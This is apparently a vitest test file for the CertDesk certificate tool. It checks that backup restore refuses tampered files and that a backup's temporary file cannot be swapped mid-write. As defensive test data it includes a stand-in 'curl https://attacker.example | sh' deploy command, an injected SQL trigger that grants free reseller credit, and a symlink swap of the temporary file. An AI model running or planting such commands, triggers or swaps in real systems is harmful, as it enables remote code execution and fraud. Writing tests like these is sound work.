/**
 * A backup is restored only as CertDesk wrote it. Someone who can write to the backup disk
 * edits the store inside a backup (adds a command deploy target, an SQL trigger) or a bit
 * flips in a stored certificate: `restore` refuses with a clear message and exit 1 and leaves
 * the target data dir without a store. A backup made for another machine carries a passphrase
 * instead of this keychain's key, or travels with the secrets export that holds that key; a backup of an earlier CertDesk (no authentication code) is
 * refused unless the user accepts it explicitly, and even then its schema must be exactly what
 * CertDesk creates. The backup's own temporary file cannot be swapped under it by someone
 * else who can write to the backup folder.
 */
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  watch,
  writeFileSync
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { startKeyringSession, type KeyringSession } from '../../scripts/keyring-session.mjs'
import { backupJobsFor } from '../../src-main/core/backup/backup'
import { DCV_SETTINGS } from '../../src-main/core/dcv/dcv'
import { openService } from '../support/engine'
import { configureOverHttp, startDns, startWeb, type DnsServer, type WebServer } from '../support/dcv-servers'
import { admin, audit, Database, DB_FILE, report } from './support'

const base = mkdtempSync(join(tmpdir(), 'certdesk-backup-trust-'))
const dataDir = join(base, 'data')
let web: WebServer
let dns: DnsServer
let leafPem: string
let n = 0
const fresh = (name: string): string => join(base, `${name}-${++n}`)

const PASSPHRASE = 'moving day passphrase, long enough'
const withBackupPassphrase = (p: string, env: NodeJS.ProcessEnv = process.env) => ({
  ...env,
  CERTDESK_BACKUP_PASSPHRASE: p
})

beforeAll(async () => {
  ;[web, dns] = await Promise.all([startWeb(), startDns()])
  const service = await openService({ dataDir })
  try {
    await service.settings.set(DCV_SETTINGS.resolver, dns.address)
    await service.settings.set(DCV_SETTINGS.httpPort, String(web.httpPort))
    await service.settings.set(DCV_SETTINGS.allowPrivateAddresses, 'true')
    const r = await service.resellers.create({ name: 'Trust Hosting', email: 'trust@example.test', groupId: 1 })
    await service.ledger.topUp(r.id, 100_000_000)
    const reseller = await service.resellers.get(r.id)
    for (let i = 0; i < 400; i++)
      await service.orders.create(reseller, { productId: 1, domain: `t-${i}.example.com`, period: 12 })
    const orderId = (
      await service.orders.create(reseller, {
        productId: 2,
        domain: 'signed.example.com',
        period: 12
      })
    ).order.id
    const publish = await configureOverHttp(service, web, r.id, orderId, 'signed.example.com')
    publish()
    await service.certificates.status(r.id, orderId)
    leafPem = (await service.ctx.store.value<string>(
      'SELECT certificate_pem FROM certificates WHERE order_id = ?',
      orderId
    )) as string
  } finally {
    await service.close()
  }
  expect(leafPem).toMatch(/^-----BEGIN CERTIFICATE-----/)
}, 120_000)
afterAll(async () => {
  await Promise.all([web?.close(), dns?.close()])
  rmSync(base, { recursive: true, force: true })
})

const backup = (extra: string[] = [], env: NodeJS.ProcessEnv = process.env): string => {
  const out = fresh('backup')
  const made = admin(dataDir, ['backup', '--out', out, ...extra], env)
  expect(made.code, made.stderr).toBe(0)
  return out
}

/** `secrets export` of a data dir under PASSPHRASE; returns the file. */
const exportSecretsOf = (dir: string): string => {
  const out = fresh('secrets.json')
  const made = admin(dir, ['secrets', 'export', '--out', out], {
    ...process.env,
    CERTDESK_SECRETS_PASSPHRASE: PASSPHRASE
  })
  expect(made.code, made.stderr).toBe(0)
  return out
}

/** Where the SQLite image sits inside a backup file (the whole file, for a plain SQLite backup). */
function sqliteImage(bytes: Buffer): { start: number; length: number } {
  const start = bytes.indexOf(Buffer.from('SQLite format 3\0', 'latin1'))
  expect(start).toBeGreaterThanOrEqual(0)
  const pageSize = bytes.readUInt16BE(start + 16)
  const pages = bytes.readUInt32BE(start + 28)
  return { start, length: (pageSize === 1 ? 65_536 : pageSize) * pages }
}

/** What someone with write access to the backup disk does: edits the store inside and splices it back. */
function editBackup(file: string, edit: (db: InstanceType<typeof Database>) => void): string {
  const bytes = readFileSync(file)
  const { start, length } = sqliteImage(bytes)
  const scratch = fresh('scratch.sqlite')
  writeFileSync(scratch, bytes.subarray(start, start + length))
  const db = new Database(scratch)
  edit(db)
  db.close()
  const edited = fresh('edited')
  writeFileSync(
    edited,
    Buffer.concat([bytes.subarray(0, start), readFileSync(scratch), bytes.subarray(start + length)])
  )
  return edited
}

/** Restores `file` into a new data dir; returns the answer and that dir. */
const restore = (file: string, extra: string[] = [], env: NodeJS.ProcessEnv = process.env) => {
  const into = fresh('restored')
  return { ...admin(into, ['restore', '--from', file, ...extra], env), into }
}

const noStore = (dir: string): boolean =>
  !existsSync(join(dir, DB_FILE)) && (!existsSync(dir) || readdirSync(dir).length === 0)

describe('restore accepts only what CertDesk wrote', () => {
  it('refuses a backup edited to add a command deploy target or an SQL trigger, and restores nothing', () => {
    const file = backup()
    const withCommand = editBackup(file, (db) => {
      db.prepare(
        `INSERT INTO deploy_targets (order_id, kind, config, created_at) VALUES (1, 'command', ?, '2026-11-21 10:00:00')`
      ).run(JSON.stringify({ command: `touch '${join(base, 'pwned')}'`, timeoutSeconds: 20 }))
    })
    const withTrigger = editBackup(file, (db) => {
      db.exec(`CREATE TRIGGER free_credit AFTER INSERT ON orders BEGIN
                 UPDATE resellers SET credit_balance_cents = credit_balance_cents + 100000 WHERE id = NEW.reseller_id;
               END`)
    })
    for (const edited of [withCommand, withTrigger]) {
      const r = restore(edited)
      expect(r.code, r.stderr).toBe(1)
      // An edit that adds a page to the store is caught by the length its header records before
      // the code is computed; one that fits in the pages there by the authentication code.
      expect(r.json.error).toMatch(
        /^could not restore .*: it is not the file CertDesk wrote \(its (authentication code|length) does not match/
      )
      expect(noStore(r.into)).toBe(true)
    }
    // The untouched backup restores, with the certificate as it was issued.
    const good = restore(file)
    expect(good.code, good.stderr).toBe(0)
    expect(good.json).toMatchObject({ success: true, integrity: 'ok', authenticated_with: 'keychain' })
    expect(audit(good.into)).toEqual([])
    const db = new Database(join(good.into, DB_FILE), { readonly: true })
    try {
      expect(db.prepare('SELECT certificate_pem AS pem FROM certificates').pluck().all()).toContain(leafPem)
      expect(db.prepare(`SELECT COUNT(*) FROM deploy_targets WHERE kind = 'command'`).pluck().get()).toBe(0)
    } finally {
      db.close()
    }
  }, 120_000)

  it('refuses a backup with one flipped bit inside a stored certificate, with exit 1 and nothing restored', () => {
    const file = backup()
    const bytes = readFileSync(file)
    const at = bytes.indexOf(Buffer.from(leafPem.slice(0, 120), 'latin1'))
    expect(at).toBeGreaterThan(0)
    // A letter of the base64 body, well inside the certificate: its case bit.
    let i = at + 100
    while (!/[A-Za-z]/.test(String.fromCharCode(bytes[i]))) i++
    bytes[i] ^= 0x20
    const flipped = fresh('flipped')
    writeFileSync(flipped, bytes)
    const r = restore(flipped)
    expect(r.code).toBe(1)
    expect(r.json.error).toMatch(
      /it is not the file CertDesk wrote \(its authentication code does not match: it was changed or damaged\); nothing was restored/
    )
    expect(noStore(r.into)).toBe(true)
    report({
      fault: 'backup changed on its disk (a command target, a trigger, one flipped bit)',
      tried: 3,
      errors: 3,
      lost: 0,
      note: 'each refused by its authentication code, nothing restored'
    })
  }, 120_000)

  it('moves to another machine with a passphrase; a keychain backup there says what to use instead', async () => {
    const other: KeyringSession = await startKeyringSession()
    try {
      const elsewhere = { ...process.env, ...other.env }
      const keychainBackup = backup()
      const there = restore(keychainBackup, [], elsewhere)
      expect(there.code).toBe(1)
      expect(there.json.error).toMatch(/this keychain does not hold the key it was made with/)
      expect(there.json.error).toMatch(/--with-passphrase/)
      expect(noStore(there.into)).toBe(true)

      const short = admin(
        dataDir,
        ['backup', '--out', fresh('short'), '--with-passphrase'],
        withBackupPassphrase('short')
      )
      expect(short.code).toBe(1)
      expect(short.json.error).toMatch(/at least 12 characters/)
      const moving = backup(['--with-passphrase'], withBackupPassphrase(PASSPHRASE))
      const wrong = restore(moving, [], withBackupPassphrase('not the passphrase at all', elsewhere))
      expect(wrong.code).toBe(1)
      expect(wrong.json.error).toMatch(/the passphrase is wrong or the file was changed/)
      expect(noStore(wrong.into)).toBe(true)
      const right = restore(moving, [], withBackupPassphrase(PASSPHRASE, elsewhere))
      expect(right.code, right.stderr).toBe(0)
      expect(right.json).toMatchObject({ success: true, authenticated_with: 'passphrase', resellers: 1 })
      expect(audit(right.into)).toEqual([])

      // The keychain backup moves too, with the secrets export made beside it: its key is in there.
      const secretsFile = exportSecretsOf(dataDir)
      const withExport = restore(keychainBackup, ['--secrets', secretsFile], {
        ...elsewhere,
        CERTDESK_SECRETS_PASSPHRASE: PASSPHRASE
      })
      expect(withExport.code, withExport.stderr).toBe(0)
      expect(withExport.json).toMatchObject({ success: true, authenticated_with: 'keychain' })
      expect(withExport.json.secrets_imported).toBeGreaterThanOrEqual(2)
      // Its secrets are in that machine's keychain now: the same backup restores there on its own.
      expect(restore(keychainBackup, [], elsewhere).code).toBe(0)
      // A secrets export of another data dir is no key for this backup.
      const otherDir = fresh('other-data')
      await (await openService({ dataDir: otherDir })).close()
      const otherSecrets = exportSecretsOf(otherDir)
      const mismatched = restore(keychainBackup, ['--secrets', otherSecrets], {
        ...elsewhere,
        CERTDESK_SECRETS_PASSPHRASE: PASSPHRASE
      })
      expect(mismatched.code).toBe(1)
      expect(mismatched.json.error).toMatch(/holds the secrets of another data dir/)
      expect(noStore(mismatched.into)).toBe(true)
    } finally {
      other.stop()
    }
  }, 180_000)

  it('refuses a backup of an earlier CertDesk unless accepted explicitly, and then only with the schema CertDesk creates', () => {
    // What earlier versions wrote: the store's SQLite file as it is, nothing around it.
    const old = fresh('old.sqlite')
    const live = new Database(join(dataDir, DB_FILE), { readonly: true })
    live.prepare('VACUUM INTO ?').run(old)
    live.close()
    const refused = restore(old)
    expect(refused.code).toBe(1)
    expect(refused.json.error).toMatch(/has no authentication code .*--accept-unauthenticated/)
    expect(noStore(refused.into)).toBe(true)

    const hostile: [string, string, RegExp][] = [
      ['trigger', `CREATE TRIGGER sneaky AFTER INSERT ON orders BEGIN SELECT 1; END`, /trigger sneaky/],
      ['view', `CREATE VIEW peek AS SELECT * FROM resellers`, /view peek/],
      ['table', `CREATE TABLE stash (x TEXT)`, /table stash/],
      [
        'changed',
        `DROP INDEX deploy_targets_order; CREATE INDEX deploy_targets_order ON deploy_targets(kind)`,
        /index deploy_targets_order/
      ]
    ]
    for (const [what, sql, named] of hostile) {
      const copy = fresh(`old-${what}.sqlite`)
      writeFileSync(copy, readFileSync(old))
      const db = new Database(copy)
      db.exec(sql)
      db.close()
      const r = restore(copy, ['--accept-unauthenticated'])
      expect(r.code, what).toBe(1)
      expect(r.json.error, what).toMatch(/its schema is not the one CertDesk creates/)
      expect(r.json.error, what).toMatch(named)
      expect(noStore(r.into), what).toBe(true)
    }
    const accepted = restore(old, ['--accept-unauthenticated'])
    expect(accepted.code, accepted.stderr).toBe(0)
    expect(accepted.json).toMatchObject({
      success: true,
      authenticated_with: 'none (accepted explicitly)',
      command_targets: []
    })
    expect(audit(accepted.into)).toEqual([])
    // Rows are taken as they are, so the answer lists the commands that would run, to look over first.
    const withCommand = fresh('old-command.sqlite')
    writeFileSync(withCommand, readFileSync(old))
    const db = new Database(withCommand)
    db.prepare(
      `INSERT INTO deploy_targets (order_id, kind, config, created_at) VALUES (1, 'command', ?, '2026-11-21 10:00:00')`
    ).run(JSON.stringify({ command: 'curl https://attacker.example | sh', timeoutSeconds: 20 }))
    db.close()
    const listed = restore(withCommand, ['--accept-unauthenticated'])
    expect(listed.code, listed.stderr).toBe(0)
    expect(listed.json.command_targets).toEqual([
      { target_id: expect.any(Number), order_id: 1, command: 'curl https://attacker.example | sh' }
    ])
  }, 120_000)

  it('refuses to back up a store whose schema was changed behind CertDesk', () => {
    const tampered = fresh('tampered')
    mkdirSync(tampered)
    const live = new Database(join(dataDir, DB_FILE), { readonly: true })
    live.prepare('VACUUM INTO ?').run(join(tampered, DB_FILE))
    live.close()
    const db = new Database(join(tampered, DB_FILE))
    db.exec(`CREATE TRIGGER on_the_side AFTER INSERT ON orders BEGIN SELECT 1; END`)
    db.close()
    const out = fresh('never')
    const r = admin(tampered, ['backup', '--out', out])
    expect(r.code).toBe(1)
    expect(r.json.error).toMatch(/its schema is not the one CertDesk creates: .*trigger on_the_side/)
    expect(existsSync(out)).toBe(false)
  }, 120_000)
})

describe("the backup's temporary file", () => {
  it('cannot be swapped for another file by someone who can write to the backup folder', async () => {
    const folder = fresh('shared-backups')
    mkdirSync(folder)
    // The other user's store, which they would like to pass off as this machine's backup.
    const victimDir = fresh('theirs')
    await (await openService({ dataDir: victimDir })).close()
    const victim = join(victimDir, DB_FILE)
    const victimBytes = readFileSync(victim)
    const swapped: string[] = []
    const watcher = watch(folder, (_event, name) => {
      if (!name || !name.endsWith('.partial') || swapped.includes(name)) return
      const path = join(folder, name)
      try {
        if (lstatSync(path).isSymbolicLink()) return
        renameSync(path, join(folder, `moved-${swapped.length}`))
        symlinkSync(victim, path)
        swapped.push(name)
      } catch {
        // gone already
      }
    })
    const service = await openService({ dataDir })
    try {
      const jobs = backupJobsFor(service.ctx, dataDir)
      const started = await jobs.start(folder)
      let view = jobs.progress()
      for (let i = 0; i < 600 && view.state === 'running'; i++) {
        await new Promise((r) => setTimeout(r, 10))
        view = jobs.progress()
      }
      expect(swapped.length).toBeGreaterThan(0)
      // Never the other user's file under the backup's name: the backup fails and says why.
      expect(view.state).toBe('failed')
      expect(view.error).toMatch(/^could not write the backup to .*: the folder was changed while it was written/)
      expect(existsSync(started.file as string)).toBe(false)
      expect(() => lstatSync(started.file as string)).toThrow()
    } finally {
      watcher.close()
      await service.close()
    }
    expect(readFileSync(victim).equals(victimBytes)).toBe(true)
  }, 120_000)
})
